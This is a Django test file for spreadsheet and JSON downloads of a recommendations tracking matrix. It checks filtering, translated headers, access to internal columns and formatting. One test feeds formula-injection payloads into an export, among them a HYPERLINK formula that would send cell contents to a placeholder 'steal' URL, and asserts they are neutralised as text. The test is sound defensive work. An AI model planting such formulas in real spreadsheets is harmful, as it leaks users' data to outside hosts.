"""Downloads of the Matrix, a recommendation and a mandate-holder: CSV, XLSX, ODS, JSON."""

import csv
import io
import json
import zipfile
from xml.etree import ElementTree

import openpyxl
import pytest
from django.test import Client

from recommendations.demo import demo_seed
from recommendations.filters import RecommendationFilterSet
from recommendations.models import AssessmentStatus, ChangeSource
from recommendations.services import recommendation_update
from tests.conftest import make_user

pytestmark = pytest.mark.django_db

NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
    "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
    "config": "urn:oasis:names:tc:opendocument:xmlns:config:1.0",
}
ATTR_TYPE = f"{{{NS['office']}}}value-type"


def change(rec, user, **changes):
    recommendation_update(rec, changes=changes, user=user, reason="test", source=ChangeSource.ADMIN)


def header_index(rows: list[list], header: str = "No.") -> int:
    return next(i for i, row in enumerate(rows) if row and row[0] == header)


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def xlsx_rows(content: bytes) -> list[list]:
    return [list(row) for row in read_xlsx(content).iter_rows(values_only=True)]


def ods_content(content: bytes) -> ElementTree.Element:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return ElementTree.fromstring(archive.read("content.xml"))


def ods_rows(content: bytes) -> list[list[str]]:
    rows = []
    for row in ods_content(content).iter(f"{{{NS['table']}}}table-row"):
        cells = []
        for cell in row.findall("table:table-cell", NS):
            cells.append("\n".join("".join(p.itertext()) for p in cell.findall("text:p", NS)))
        rows.append(cells)
    return rows


def data_codes(rows: list[list], header: str = "No.") -> list[str]:
    start = header_index(rows, header) + 1
    return [row[0] for row in rows[start:] if row and row[0]]


def expected_codes(params: dict) -> list[str]:
    return [r.code for r in RecommendationFilterSet(params).qs]


READERS = {
    "csv": read_csv,
    "xlsx": xlsx_rows,
    "ods": ods_rows,
}


@pytest.mark.parametrize("extension", ["csv", "xlsx", "ods", "json"])
@pytest.mark.parametrize(
    "query",
    [
        {},
        {"cluster": "I", "sort": "-number"},
        {"responsibility": "court", "assessment": "none"},
        {"q": "R300-R310", "sort": "-assessment"},
        {"cluster": "II"},  # no rows
    ],
)
def test_each_format_has_exactly_the_rows_of_the_view(client, extension, query):
    response = client.get(f"/matrix.{extension}", query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        {
            "csv": "text/csv",
            "xlsx": "application/vnd.openxmlformats",
            "ods": "application/vnd.oasis",
            "json": "application/json",
        }[extension]
    )
    if extension == "json":
        codes = [row["code"] for row in json.loads(response.content)["rows"]]
    else:
        codes = data_codes(READERS[extension](response.content))
    assert codes == expected_codes(query)


def test_numbers_come_as_text_and_as_a_number_column(client):
    rows = xlsx_rows(client.get("/matrix.xlsx", {"q": "R9-R11"}).content)
    start = header_index(rows) + 1
    assert [(row[0], row[1]) for row in rows[start:]] == [("R9", 9), ("R10", 10), ("R11", 11)]


def test_headers_are_in_the_readers_language(client):
    english = read_csv(client.get("/matrix.csv").content)[0]
    assert english[:2] == ["No.", "Number"]
    assert "Assessment status" in english
    client.cookies["django_language"] = "fr"
    french = read_csv(client.get("/matrix.csv").content)[0]
    assert "Statut de l\u2019évaluation" in french
    assert "Assessment status" not in french
    assert len(french) == len(english)


def test_the_file_name_carries_the_date_and_the_filters(client):
    from django.utils import timezone

    today = timezone.now().date().isoformat()
    response = client.get("/matrix.xlsx", {"cluster": "II"})
    assert response["Content-Disposition"] == (
        f'attachment; filename="ier-matrix-{today}-cluster-II.xlsx"'
    )
    response = client.get("/recommendations/R14.csv")
    assert f'filename="ier-R14-{today}.csv"' in response["Content-Disposition"]


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://example.com/steal?x="&A1,"Click")',
        "+1+2",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_injection_is_neutralised(client, rec, secretariat_user, dangerous):
    change(rec(14), secretariat_user, text=dangerous)

    csv_rows = read_csv(client.get("/recommendations/R14.csv").content)
    text_column = csv_rows[0].index("Text")
    assert csv_rows[1][text_column] == "'" + dangerous  # the apostrophe makes it text

    sheet = read_xlsx(client.get("/recommendations/R14.xlsx").content)
    header = next(row for row in sheet.iter_rows() if row[0].value == "No.")
    column = [c.value for c in header].index("Text")
    cell = sheet.cell(row=header[0].row + 1, column=column + 1)
    assert cell.value.replace("\n", "\r") == dangerous.replace("\n", "\r")  # XML has no \r
    assert cell.data_type == "s"  # a string, not a formula

    content = ods_content(client.get("/recommendations/R14.ods").content)
    cells = [
        cell
        for cell in content.iter(f"{{{NS['table']}}}table-cell")
        if "".join(cell.itertext()).strip() == dangerous.strip()
    ]
    assert cells
    assert all(cell.get(ATTR_TYPE) == "string" for cell in cells)
    assert all(cell.get(f"{{{NS['table']}}}formula") is None for cell in cells)

    data = json.loads(client.get("/recommendations/R14.json").content)
    assert data["rows"][0]["text"] == dangerous  # JSON keeps the value as it is


def test_internal_columns_only_for_authorised_users(rec, secretariat_user):
    change(rec(14), secretariat_user, internal_remarks="SECRET-NOTE")
    outsider_client, secretariat_client = Client(), Client()
    outsider_client.force_login(make_user("charlie"))
    secretariat_client.force_login(secretariat_user)
    for anonymous_or_outsider in (Client(), outsider_client):
        response = anonymous_or_outsider.get("/matrix.csv", {"q": "R14"})
        assert b"SECRET-NOTE" not in response.content
        assert "Internal remarks" not in read_csv(response.content)[0]
        assert b"SECRET-NOTE" not in anonymous_or_outsider.get("/matrix.json").content
    response = secretariat_client.get("/matrix.csv", {"q": "R14"})
    rows = read_csv(response.content)
    assert rows[1][rows[0].index("Internal remarks")] == "SECRET-NOTE"
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]
    sheet = xlsx_rows(secretariat_client.get("/recommendations/R14.xlsx").content)
    assert [row[0] for row in sheet[:5] if row[0] and "internal" in row[0]] == [
        "Contains internal columns: not for publication."
    ]


def test_xlsx_is_ready_to_circulate(client, rec, secretariat_user):
    positive = AssessmentStatus.objects.get(key="positively_assessed")
    change(rec(20), secretariat_user, assessment_status=positive)
    sheet = read_xlsx(client.get("/matrix.xlsx", {"cluster": "I"}).content)
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    header = header_index(rows) + 1  # 1-based row number of the header
    assert rows[0][0].startswith("Progress of the IER recommendations, as of ")
    assert rows[1][0] == "Filters: Cluster: I. Governance"
    assert sheet.freeze_panes == f"A{header + 1}"
    assert sheet.auto_filter.ref.startswith(f"A{header}:")
    assert sheet.auto_filter.ref.endswith(str(header + 86))  # 86 rows in cluster I
    assert sheet.column_dimensions["D"].width == 60  # the text column is wide
    assert sheet.cell(row=header + 1, column=4).alignment.wrap_text
    column = rows[header - 1].index("Assessment status") + 1
    r20 = next(r for r in range(header + 1, header + 87) if sheet.cell(r, 1).value == "R20")
    cell = sheet.cell(r20, column)
    assert cell.value == "Positively assessed"  # the label stays as text
    assert cell.fill.fgColor.rgb.endswith(positive.colour.lstrip("#").upper())


def test_ods_is_ready_to_circulate(client):
    demo_seed()
    response = client.get("/matrix.ods", {"cluster": "I"})
    rows = ods_rows(response.content)
    assert rows[0][0].startswith("Progress of the IER recommendations, as of ")
    assert any("demonstration data, not official" in row[0] for row in rows[:5] if row)
    content = ods_content(response.content)
    ranges = content.findall(".//table:database-range", NS)
    assert len(ranges) == 1
    assert ranges[0].get(f"{{{NS['table']}}}display-filter-buttons") == "true"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        settings = archive.read("settings.xml").decode()
    header = header_index(rows) + 1
    assert f'config:name="VerticalSplitPosition" config:type="int">{header}<' in settings
    widths = [
        p.get(f"{{{NS['style']}}}column-width")
        for p in content.iter(f"{{{NS['style']}}}table-column-properties")
    ]
    assert len(set(widths)) > 3
    backgrounds = {
        p.get(f"{{{NS['fo']}}}background-color")
        for p in content.iter(f"{{{NS['style']}}}table-cell-properties")
    }
    assert {s.colour.lower() for s in AssessmentStatus.objects.all()} & backgrounds


def test_demonstration_values_are_announced_in_the_file(client):
    demo_seed()
    rows = read_csv(client.get("/matrix.csv", {"q": "R1"}).content)
    assert rows[1][rows[0].index("Demonstration values (not official)")]
    title = xlsx_rows(client.get("/matrix.xlsx", {"q": "R1"}).content)[2][0]
    assert "demonstration data, not official" in title


def test_a_recommendation_and_a_mandate_holder_download_the_same_way(client, rec, secretariat_user):
    from recommendations.models import MandateHolder
    from recommendations.services import Assignment

    registry = MandateHolder.objects.get(slug="registry")
    change(rec(5), secretariat_user, assignments=[Assignment(registry)])
    change(rec(9), secretariat_user, assignments=[Assignment(registry, role=2)])
    assert data_codes(read_csv(client.get("/mandate-holders/registry.csv").content)) == [
        "R5",
        "R9",
    ]
    assert data_codes(xlsx_rows(client.get("/recommendations/R227.xlsx").content)) == ["R227"]
    response = client.get("/recommendations/r014.xlsx")
    assert response.status_code == 301
    assert response["Location"] == "/recommendations/R14.xlsx"
    for missing in ("/recommendations/R999.csv", "/mandate-holders/nobody.csv", "/matrix.pdf"):
        assert client.get(missing).status_code == 404


def test_the_pages_offer_their_downloads(client):
    matrix = client.get("/matrix/", {"cluster": "I", "page": "1", "per_page": "25"})
    content = matrix.content.decode()
    assert 'href="/matrix.xlsx?cluster=I"' in content  # the view, not its page
    assert "Download this view (86 rows)" in content
    assert 'href="/recommendations/R14.ods"' in client.get("/recommendations/R14/").content.decode()
    assert 'href="/mandate-holders/otp.csv"' in client.get("/mandate-holders/otp/").content.decode()


@pytest.mark.parametrize("extension", ["csv", "xlsx", "ods", "json"])
def test_exports_take_the_same_queries_whatever_the_rows(
    client, extension, django_assert_num_queries
):
    # 6 option lists, the rows, their owners and their topics.
    demo_seed()
    for query in ({"q": "R14"}, {}):
        with django_assert_num_queries(9):
            response = client.get(f"/matrix.{extension}", query)
        assert response.status_code == 200
